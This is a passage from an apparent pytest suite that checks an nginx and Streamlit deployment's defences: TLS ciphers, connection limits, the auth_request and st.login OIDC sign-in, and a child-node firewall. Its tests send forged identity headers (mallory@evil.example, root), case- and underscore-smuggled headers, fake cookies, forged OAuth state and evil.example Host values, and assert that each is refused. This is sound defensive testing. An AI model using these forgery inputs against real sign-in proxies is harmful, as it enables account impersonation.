        try:
            code, output = site({"nginx_location_trusted_proxies": [proxy + "/32"]}, limit="master")
            assert code == 0, output[-3000:]
            trusted = seen_by_the_children({"X-Forwarded-For": "6.6.6.6"}, source=proxy)
            untrusted = seen_by_the_children({"X-Forwarded-For": "6.6.6.6"}, source=other)
        finally:
            assert site(limit="master")[0] == 0
    record("nginx_location_trusted_proxies: [a proxy's address]; X-Forwarded-For: 6.6.6.6 from that proxy, then from another address",
           "through the proxy the client is 6.6.6.6 (realip); from anyone else the header does not change the client",
           "from the proxy: %d, X-Real-IP %r; from %s: %d, X-Real-IP %r, X-Forwarded-For %r"
           % (trusted[0], trusted[1].get("X-Real-IP"), other, untrusted[0], untrusted[1].get("X-Real-IP"),
              untrusted[1].get("X-Forwarded-For")),
           trusted[0] == 200 and trusted[1].get("X-Real-IP") == "6.6.6.6"
           and untrusted[0] == 200 and untrusted[1].get("X-Real-IP") == other)


def test_tls_offers_no_weak_cipher_and_answers_with_hsts_and_no_version(deployed):
    def tls12(ciphers):
        context = tls_context()
        context.maximum_version = ssl.TLSVersion.TLSv1_2
        try:
            context.set_ciphers(ciphers)
            with socket.create_connection((lab_ip("master"), PORT), timeout=5) as raw:
                with context.wrap_socket(raw, server_hostname=NAME) as sock:
                    return sock.cipher()[0]
        except ssl.SSLError as exc:
            return "refused (%s)" % exc.reason
    # The server's key is ECDSA: CBC suites with ECDSA are what nginx's default list would still accept.
    weak = tls12("ECDHE-ECDSA-AES128-SHA:ECDHE-ECDSA-AES256-SHA:ECDHE-ECDSA-AES128-SHA256")
    strong = tls12("ECDHE-ECDSA-AES128-GCM-SHA256")
    _status, headers, _body, _seconds = request("GET", "/%s/_stcore/health" % PREFIX)
    record("TLS 1.2 with CBC ciphers; headers of an answer", "weak refused, ECDHE-GCM accepted, HSTS, Server without version",
           "weak: %s; strong: %s; HSTS %r; Server %r" % (weak, strong, headers.get("strict-transport-security"), headers.get("server")),
           weak.startswith("refused") and "GCM" in strong and headers.get("strict-transport-security") == "max-age=31536000"
           and headers.get("server") == "nginx")


def test_limit_conn_per_client_caps_one_address(site, deployed):
    async def three():
        results = []
        for _index in range(3):
            try:
                results.append(await browser_session(tls_context(), lab_ip("master"), subprotocols=["streamlit"], open_timeout=15))
            except Exception as exc:  # pylint: disable=broad-except  # the refused one is the point
                results.append(exc)
        opened = [r for r in results if not isinstance(r, Exception)]
        await asyncio.gather(*(r.close() for r in opened))
        return len(opened), [getattr(getattr(r, "response", None), "status_code", repr(r)[:60]) for r in results if isinstance(r, Exception)]
    try:
        code, output = site({"nginx_location_limit_conn_per_client": 2}, limit="master")
        assert code == 0, output[-3000:]
        opened, refused = asyncio.run(three())
    finally:
        assert site(limit="master")[0] == 0
    record("3 sessions from one address with nginx_location_limit_conn_per_client: 2", "2 open, the third 503",
           "%d open, refused %s" % (opened, refused), opened == 2 and refused == [503])


# --- Sign-in at the door: auth_request, identity headers only nginx sets, the firewall ---------------------

AUTH_NAME = "auth.wsproxy.test"
AUTH_PORT = 4180
IDENTITY = {"X-Auth-Request-Email": "email", "X-Auth-Request-User": "user", "X-Auth-Request-Groups": "groups"}
ALICE = "Signed in as email=alice@wsproxy.test, groups=analysts,staff, user=alice"
FIREWALL_TABLE = "wsproxy_streamlit"


@pytest.fixture(scope="module")
def sign_in_service():
    """oidc-provider-mock and the oauth2-proxy contract in front of it, on this machine's lab address."""
    address = gateway()
    provider = Provider(address, 9400)
    auth = AuthService(provider, address, AUTH_PORT, "http://%s:%d" % (AUTH_NAME, AUTH_PORT), "wsproxy.test")
    auth.address = address
    yield auth
    auth.stop()
    provider.stop()


@pytest.fixture(scope="module")
def signed(site, app_vars, sign_in_service, deployed):
    """The app behind the sign-in, with the agent API on and only the analysts group let in; deployed twice."""
    overrides = {
        "streamlit_trusted_user_headers": IDENTITY,
        "nginx_location_auth_url": "http://%s:%d/oauth2/auth" % (sign_in_service.address, AUTH_PORT),
        "nginx_location_auth_signin_url": "http://%s:%d/oauth2/start" % (AUTH_NAME, AUTH_PORT),
        "nginx_location_auth_allowed_groups": ["analysts"],
        "streamlit_config": dict(app_vars["streamlit_config"], server={"enableAgentApi": True}),
    }
    first = site(overrides)
    assert first[0] == 0, first[1][-5000:]
    second = site(overrides)
    return {"first": first, "second": second, "cookies": {}, "overrides": overrides}


NATIVE_SECRET = "native-sign-in-cookie-secret-" + "0123456789abcdef" * 2
NATIVE_REDIRECT_URI = "%s/%s/oauth2callback" % (ORIGIN, PREFIX)


@pytest.fixture(scope="module")
def native(site, signed, sign_in_service):
    """The same app switched from the auth_request sign-in to Streamlit's own (st.login) against the same provider.
    (Its rerun gave changed=0 in the CI run of 5c5689c; not repeated, for CI time: the auth_request rerun stays.)"""
    overrides = {"streamlit_cookie_secret": NATIVE_SECRET, "streamlit_auth": {
        "server_metadata_url": sign_in_service.provider.issuer + "/.well-known/openid-configuration",
        "client_id": CLIENT_ID, "client_secret": CLIENT_SECRET}}
    return site(overrides)


def failed_task(output):
    """The task that failed in a playbook's output, and its message."""
    found = re.findall(r"TASK \[([^\]]+)\][^\n]*\n(?:[^\n]*\n)*?fatal: [^\n]*", output)
    return (found[-1] if found else "?") + ": " + (re.findall(r"fatal: ([^\n]*)", output) or ["?"])[-1][:1500]


def cookie_jar(set_cookies):
    """What a browser keeps of these Set-Cookie headers, in order: a later one replaces an earlier one, and a
    cookie set empty or expired (Max-Age=0, as Streamlit clears its stale chunks) is dropped."""
    jar = {}
    for line in set_cookies:
        pair, *attributes = [part.strip() for part in line.split(";")]
        name, _sep, value = pair.partition("=")
        expired = any(attribute.lower() in ("max-age=0", "max-age=-1") or attribute.lower().startswith("expires=thu, 01 jan 1970")
                      for attribute in attributes)
        jar.pop(name, None)
        if value not in ("", '""') and not expired:
            jar[name] = value
    return jar


def native_login_start(sign_in_service, who):
    """st.login's first two legs as a browser takes them: the app's redirect to the provider (and its login session
    cookie), the provider's sign-in as ``who``; (the session cookie, the callback URL the provider sends back)."""
    start = request("GET", "/%s/auth/login?provider=%s" % (PREFIX, provider_token(NATIVE_SECRET)))
    assert start[0] in (302, 307), start[:2]
    session = "; ".join("%s=%s" % item for item in cookie_jar(start[1]["set-cookies"]).items())
    form = urllib.parse.urlencode({"sub": who}).encode()
    try:
        urllib.request.build_opener(_NoRedirect).open(urllib.request.Request(start[1]["location"], data=form), timeout=10)
    except urllib.error.HTTPError as answer:
        assert answer.code == 302, answer.code
        return session, answer.headers["Location"]
    raise AssertionError("the provider did not send the browser back")


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def session_cookie(signed, sign_in_service, who):
    """A session of the auth service from a real OIDC login as ``who`` (the browser's redirects, followed in Python)."""
    if who not in signed["cookies"]:
        local = {"http://%s:%d" % (AUTH_NAME, AUTH_PORT): "http://%s:%d" % (sign_in_service.address, AUTH_PORT)}
        signed["cookies"][who] = sign_in(sign_in_service, who, APP_URL, local)
    return signed["cookies"][who]


def app_texts(headers, xsrf="PLACEHOLDER_AUTH_TOKEN"):
    """What the app renders over the WebSocket through the master, sent with ``headers`` (a list of pairs) and, as
    the browser does, an XSRF token in the subprotocols (Streamlit reads st.login's cookie only with a valid one)."""
    return asyncio.run(rendered_texts(browser_session(tls_context(), lab_ip("master"), additional_headers=headers,
                                                      subprotocols=["streamlit", xsrf], open_timeout=15)))


def upgrade_status(headers):
    try:
        asyncio.run(rendered_texts(browser_session(tls_context(), lab_ip("master"), additional_headers=headers,
                                                   subprotocols=["streamlit", "PLACEHOLDER_AUTH_TOKEN"], open_timeout=15), timeout=5))
        return 101
    except Exception as exc:  # pylint: disable=broad-except  # the refusal is the point
        return getattr(getattr(exc, "response", None), "status_code", repr(exc)[:80])


def agent(headers):
    status, _headers, body, _seconds = request("POST", "/%s/_stcore/agent/interact" % PREFIX,
                                               dict(headers, **{"Content-Type": "application/json"}), body=b"{}")
    signed_in = re.findall(r'"Signed in as [^"]*"', body.decode("utf-8", "replace"))
    return status, signed_in


def test_sign_in_stops_every_anonymous_request_and_the_deploy_proves_it(signed, sign_in_service):
    code, output = signed["first"]
    page = request("GET", "/%s/" % PREFIX, {"Sec-Fetch-Mode": "navigate", "Accept": "text/html"})
    statuses = {
        "upgrade": upgrade_status([]),
        "upload": request("PUT", "/%s/_stcore/upload_file/s/f" % PREFIX, {"Origin": ORIGIN}, body=b"x")[0],
        "fetch": request("GET", "/%s/_stcore/host-config" % PREFIX, {"Sec-Fetch-Mode": "cors", "Accept": "*/*"})[0],
        "static": request("GET", "/%s/static/js/index.js" % PREFIX)[0],
        "media": request("GET", "/%s/media/x.png" % PREFIX)[0],
        "health": request("GET", "/%s/_stcore/health" % PREFIX)[0],
        "agent API": agent({})[0],
    }
    location = page[1].get("location", "")
    summary = ", ".join("%s %s" % item for item in statuses.items())
    verdict = "Sign-in holds" if "Sign-in holds" in output else "no such message"
    expected_location = "http://%s:%d/oauth2/start?rd=%s" % (AUTH_NAME, AUTH_PORT, APP_URL)
    record("anonymous: the page, the WebSocket upgrade, an upload, a fetch, static files, media, health, the agent API",
           "page 302 to the sign-in with rd; every other request 401, no 101; site.yml's check says sign-in holds",
           "page %d to %s; %s; the check: %s" % (page[0], location, summary, verdict),
           code == 0 and page[0] == 302 and location == expected_location and set(statuses.values()) == {401}
           and "Sign-in holds" in output)


def test_the_deploys_session_check_needs_a_signed_in_session_and_proves_it(site, signed, sign_in_service):
    anonymous = signed["first"][1]
    skipped = "behind a sign-in: the session check needs a signed-in session's cookie" in anonymous
    alice = session_cookie(signed, sign_in_service, "alice")
    code, output = site(signed["overrides"], {"wsproxy_check_headers": {"Cookie": alice}}, limit="master")
    report = re.findall(r'"msg": "(streamlit: first run [^"]*)"', output)
    record("site.yml's session check behind the sign-in: anonymous, then with alice's session (wsproxy_check_headers)",
           "anonymous: it says it did not run; alice: the first run, an upload and the session through the master, and"
           " her cookie never in the output", "anonymous skipped: %s; alice: rc %d, %s" % (
               skipped, code, report[0] if report else failed_task(output)),
           skipped and code == 0 and len(report) == 1 and report[0].endswith("the same replica through every master: yes.")
           and alice.split("=", 1)[1] not in output)


def test_a_rerun_behind_the_sign_in_changes_nothing(signed):
    code, output = signed["second"]
    record("site.yml again with the sign-in on", "changed=0 everywhere",
           "rc %d, changed %s" % (code, {h: c["changed"] for h, c in recap(output).items()}),
           code == 0 and changed_nowhere(output))


def test_a_signed_in_browser_cannot_forge_its_identity(signed, sign_in_service):
    alice = session_cookie(signed, sign_in_service, "alice")
    honest = app_texts([("Cookie", alice)])
    forged = app_texts([("Cookie", alice), ("X-Auth-Request-Email", "mallory@evil.example"),
                        ("X-Auth-Request-User", "root"), ("X-Auth-Request-Groups", "admins")])
    record("signed in as alice, the browser adds X-Auth-Request-Email/User/Groups of its own (WebSocket, st.user)",
           "st.user is what the auth service said, nothing of the client's", "honest: %s; forged: %s" % (
               [t for t in honest if t.startswith("Signed")], [t for t in forged if t.startswith("Signed")]),
           ALICE in honest and ALICE in forged and not any("mallory" in t or "root" in t for t in forged))


def test_the_forged_header_in_another_case_repeated_or_underscored_does_not_pass(signed, sign_in_service):
    alice = session_cookie(signed, sign_in_service, "alice")
    texts = app_texts([("x-auth-request-EMAIL", "mallory@evil.example"), ("Cookie", alice),
                       ("X-Auth-Request-Email", "m2@evil.example"), ("X-Auth-Request-Email", "m3@evil.example"),
                       ("X_Auth_Request_Email", "m4@evil.example"), ("x_auth_request_user", "root")])
    signed_line = [t for t in texts if t.startswith("Signed")]
    record("the same headers sent first in lower/upper case, three times, and with underscores",
           "st.user still alice's", "%s" % signed_line, signed_line == [ALICE])


def test_the_agent_api_takes_the_identity_nginx_set_only(signed, sign_in_service):
    alice = session_cookie(signed, sign_in_service, "alice")
    forged = agent({"Cookie": alice, "X-Auth-Request-Email": "mallory@evil.example", "X-Auth-Request-User": "root"})
    anonymous = agent({"X-Auth-Request-Email": "mallory@evil.example"})
    record("POST /_stcore/agent/interact (server.enableAgentApi on) with forged identity headers, signed in and anonymous",
           "signed in: the app renders alice; anonymous: 401", "signed in: %d %s; anonymous: %d" % (forged[0], forged[1], anonymous[0]),
           forged[0] == 200 and forged[1] == ['"%s"' % ALICE] and anonymous[0] == 401)


def test_an_anonymous_browser_with_forged_headers_gets_no_socket(signed):
    status = upgrade_status([("X-Auth-Request-Email", "alice@wsproxy.test"), ("X-Auth-Request-User", "alice"),
                             ("Cookie", "_oauth2_proxy=forged.0000")])
    record("anonymous WebSocket upgrade claiming alice in the identity headers and a made-up session cookie",
           "401 from nginx, no 101", "%s" % status, status == 401)


def test_allowed_groups_keep_a_signed_in_outsider_out(signed, sign_in_service):
    bob = session_cookie(signed, sign_in_service, "bob")
    status = upgrade_status([("Cookie", bob)])
    page = request("GET", "/%s/" % PREFIX, {"Cookie": bob, "Sec-Fetch-Mode": "navigate"})[0]
    record("bob signs in for real but is not in nginx_location_auth_allowed_groups [analysts]",
           "403 on the page and the WebSocket", "page %s, upgrade %s" % (page, status), page == 403 and status == 403)


def test_only_the_masters_reach_the_childs_port_even_after_an_engine_restart(signed):
    target = (lab_ip("child-1"), 8501)
    dial = "import socket\ntry:\n socket.create_connection(%r, 5); print('connected')\nexcept OSError as e: print(type(e).__name__)" % (target,)

    def reach(node):
        if node == "this machine":
            try:
                with socket.create_connection(target, timeout=5):
                    return "connected"
            except OSError as exc:
                return type(exc).__name__
        return on(node, "python3 -c \"%s\"" % dial.replace('"', '\\"'))[1]

    def started():
        return on("child-1", "systemctl show docker -p ActiveEnterTimestampMonotonic --value; docker inspect -f '{{.State.StartedAt}}' %s"
                  % CONTAINER)[1].split()

    before = {node: reach(node) for node in ("master", "child-2", "this machine")}
    engine_before = started()
    on("child-1", "systemctl restart docker")
    on("child-1", "curl -fsS --retry 60 --retry-delay 1 --retry-all-errors -o /dev/null http://%s:8501/%s/_stcore/health"
       % (lab_ip("child-1"), PREFIX))
    engine_after = started()
    after = {node: reach(node) for node in ("master", "child-2", "this machine")}
    tables = [on(child, "nft list table inet %s >/dev/null && echo loaded" % FIREWALL_TABLE)[1] for child in ("child-1", "child-2")]
    expected = {"master": "connected", "child-2": "ConnectionRefusedError", "this machine": "ConnectionRefusedError"}
    record("straight to child-1's app port from child-2 and this machine (not masters), and from the master; again after "
           "restarting Docker on child-1", "refused (reset) from non-masters, connected from the master, both times",
           "before %s; Docker and the container restarted: %s; after %s; tables on the children %s"
           % (before, engine_before != engine_after and engine_before[1] != engine_after[1], after, tables),
           before == expected and after == expected and engine_before[0] != engine_after[0]
           and engine_before[1] != engine_after[1] and tables == ["loaded", "loaded"])


def chromium_signs_in(resolve, shown_text, upload, screenshot, login_button=None):
    """Chromium opens the app through the master (``resolve``: extra name -> address), clicks ``login_button`` if
    given, signs in at the provider as alice, waits for ``shown_text`` and uploads ``upload`` (name, bytes); returns
    (the provider's page, the app's URL after it, the names of the browser's cookies)."""
    from playwright.sync_api import expect, sync_playwright  # pylint: disable=import-outside-toplevel

    rules = ", ".join("MAP %s %s" % item for item in dict(resolve, **{NAME: lab_ip("master")}).items())
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS + ["--host-resolver-rules=" + rules])
        try:
            context = browser.new_context(ignore_https_errors=True)
            context.set_default_timeout(30000)
            page = context.new_page()
            page.goto(APP_URL)
            if login_button:
                page.get_by_role("button", name=login_button).click()
                page.wait_for_url(re.compile(r"^http://[^/]+:9400/"))
            provider_page = page.url
            page.get_by_role("button", name="alice").click()
            expect(page.get_by_text(shown_text)).to_be_visible()
            page.locator("input[type=file]").set_input_files({"name": upload[0], "mimeType": "text/plain", "buffer": upload[1]})
            expect(page.get_by_text("Received %s: %d bytes" % (upload[0], len(upload[1])))).to_be_visible()
            shown = page.url
            cookies = sorted(cookie["name"] for cookie in context.cookies())
            page.screenshot(path=os.path.join(EPHEMERAL, screenshot))
        finally:
            browser.close()
    return provider_page, shown, cookies


def test_chromium_signs_in_through_the_master_and_uses_the_app(signed, sign_in_service):
    provider_page, shown, _cookies = chromium_signs_in(
        {AUTH_NAME: sign_in_service.address}, ALICE, ("signed.txt", b"uploaded after signing in"), "attacks-signed-in.png")
    record("Chromium opens the app, signs in at the provider as alice, uses the app, uploads a file",
           "sent to the provider, back on the app showing alice's identity, upload received",
           "sign-in page %s; back at %s; '%s' shown; upload received" % (provider_page.split("?")[0], shown, ALICE),
           provider_page.startswith("http://%s:9400/oauth2/authorize" % sign_in_service.address) and shown == APP_URL)


def test_switching_to_native_sign_in_opens_nginx_removes_the_firewall_and_the_check_proves_the_login(native):
    code, output = native
    left = [on(child, "nft list table inet %s >/dev/null 2>&1 && echo table; ls /etc/wsproxy-streamlit/firewall" % FIREWALL_TABLE)[1]
            for child in ("child-1", "child-2")]
    open_again = handshake(ORIGIN)["diagnosis"]["code"]
    direct = on("child-2", "curl -sS -m 5 -o /dev/null -w '%%{http_code}' http://%s:8501/%s/_stcore/health" % (lab_ip("child-1"), PREFIX))[1]
    proven = re.findall(r"st\.login sends the browser to (\S+) with redirect_uri (\S+/oauth2callback)", output)
    record("site.yml without the auth_request settings, with streamlit_auth (Streamlit's own st.login) instead",
           "nginx lets anonymous browsers in (the app signs them in); no firewall table or file left; the check proves "
           "the login leads to the provider with the redirect_uri", "rc %d; anonymous handshake %s; child-2 to child-1's "
           "port %s; left on the children: %s; the check: %s%s"
           % (code, open_again, direct, left, proven[:1], "; " + failed_task(output) if code else ""),
           code == 0 and open_again == "ok" and direct == "200" and left == ["", ""]
           and proven and all(uri == NATIVE_REDIRECT_URI for _endpoint, uri in proven))


def test_chromium_signs_in_with_st_login_through_the_master_and_uses_the_app(native, sign_in_service):
    provider_page, shown, cookies = chromium_signs_in(
        {}, "email=alice@wsproxy.test", ("native.txt", b"uploaded after st.login"), "attacks-st-login.png", login_button="Log in")
    cookies = [name for name in cookies if name.startswith("_streamlit_user")]
    redirect = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(provider_page).query)).get("redirect_uri")
    record("Chromium opens the app, clicks Log in (st.login), signs in at the provider as alice, uploads a file",
           "sent to the provider with the redirect_uri, back on the app showing alice's email, upload received",
           "provider page %s with redirect_uri %s; back at %s; identity cookies %s; upload received"
           % (provider_page.split("?")[0], redirect, shown, cookies),
           provider_page.startswith(sign_in_service.provider.config["authorization_endpoint"])
           and redirect == NATIVE_REDIRECT_URI and shown == APP_URL and cookies)


def test_a_callback_whose_state_does_not_match_signs_no_one_in(native, sign_in_service):
    start, back = native_login_start(sign_in_service, "alice")
    code_and_state = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(back).query))
    forged = request("GET", "/%s/oauth2callback?%s" % (PREFIX, urllib.parse.urlencode(dict(code_and_state, state="forged-state"))),
                     {"Cookie": start})
    no_session = request("GET", "/%s/oauth2callback?%s" % (PREFIX, urllib.parse.urlencode(code_and_state)))
    real = request("GET", "/%s/oauth2callback?%s" % (PREFIX, urllib.parse.urlencode(code_and_state)), {"Cookie": start})

    def signed_in(answer):
        return "_streamlit_user" in cookie_jar(answer[1]["set-cookies"])

    record("the provider's real code sent back with a forged state, and with the right state but without the browser's "
           "login session (a CSRF'd callback)", "no identity cookie either way; the real callback signs in",
           "forged state: %d, identity cookie %s; no session: %d, identity cookie %s; the real one: identity cookie %s"
           % (forged[0], signed_in(forged), no_session[0], signed_in(no_session), signed_in(real)),
           not signed_in(forged) and not signed_in(no_session) and signed_in(real))


def test_a_login_asked_under_another_host_cannot_change_the_redirect_uri(native):
    login = "/%s/auth/login?provider=%s" % (PREFIX, provider_token(NATIVE_SECRET))
    foreign_host = request("GET", login, host="evil.example")
    forwarded = request("GET", login, {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http"})
    redirect = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(forwarded[1].get("location", "")).query)).get("redirect_uri")
    record("st.login asked with Host: evil.example, and with X-Forwarded-Host: evil.example and X-Forwarded-Proto: http",
           "421 for the foreign Host; otherwise the provider still gets the configured redirect_uri",
           "Host: %d; forwarded: %d with redirect_uri %s" % (foreign_host[0], forwarded[0], redirect),
           foreign_host[0] == 421 and forwarded[0] in (302, 307) and redirect == NATIVE_REDIRECT_URI)


def test_identity_cookies_over_8_kb_still_reach_the_app(native, sign_in_service):
    start, back = native_login_start(sign_in_service, "alice")
    real = request("GET", "/%s/oauth2callback?%s" % (PREFIX, urllib.parse.urlsplit(back).query), {"Cookie": start})
    identity = "; ".join("%s=%s" % item for item in cookie_jar(real[1]["set-cookies"]).items() if item[0].startswith("_streamlit_user"))
    cookies = "; ".join([identity] + ["filler%d=%s" % (n, "x" * 3000) for n in range(4)])
    page = request("GET", "/%s/" % PREFIX, {"Cookie": cookies})[0]
    # The app's first request (health) sets the XSRF cookie; the browser sends it back, and its token in the
    # WebSocket's subprotocols.
    health = request("GET", "/%s/_stcore/health" % PREFIX, {"Cookie": cookies})[1]
    xsrf = cookie_jar(health["set-cookies"]).get("_streamlit_xsrf", "").strip('"')
    texts = app_texts([("Cookie", "%s; _streamlit_xsrf=%s" % (cookies, xsrf))], xsrf=xsrf)
    signed = [t for t in texts if t.startswith("Signed in as")]
    record("a browser signed in with st.login whose cookies total %d bytes (identity cookies + others)" % len(cookies),
           "page 200, WebSocket 101 and st.user alice's (nginx's default 8k header buffer would answer 400)",
           "identity cookies %s; page %d; st.user's email shown: %s" % (
               [name for name in cookie_jar(real[1]["set-cookies"]) if name.startswith("_streamlit_user")], page,
               [re.findall(r"email=[^,]*", t) for t in signed]),
           len(cookies) > 12000 and page == 200 and len(signed) == 1 and "email=alice@wsproxy.test" in signed[0])


def test_removing_the_sign_in_settings_restores_the_open_app(site, native):
    code, output = site()
    secrets = [on(child, "grep -c '^\\[auth\\]' %s/secrets.toml" % DATA_DIR)[1] for child in ("child-1", "child-2")]
    login = request("GET", "/%s/auth/login?provider=%s" % (PREFIX, provider_token(NATIVE_SECRET)))
    record("site.yml without streamlit_auth", "no [auth] left in secrets.toml; the app is open and st.login no longer leads anywhere",
           "rc %d; [auth] sections on the children %s; anonymous handshake %s; auth/login %d to %s"
           % (code, secrets, handshake(ORIGIN)["diagnosis"]["code"], login[0], login[1].get("location")),
           code == 0 and secrets == ["0", "0"] and login[1].get("location", "").rstrip("/").endswith(PREFIX))


def test_the_app_still_works_after_every_attack(site):
    code, output = site()
    counts = recap(output)
    record("a clean rerun after all of the above", "app answers, changed=0 everywhere",
           "rc %d, changed %s" % (code, {h: c["changed"] for h, c in counts.items()}),
           code == 0 and all(c["changed"] == 0 for c in counts.values()) and handshake(ORIGIN)["diagnosis"]["code"] == "ok")
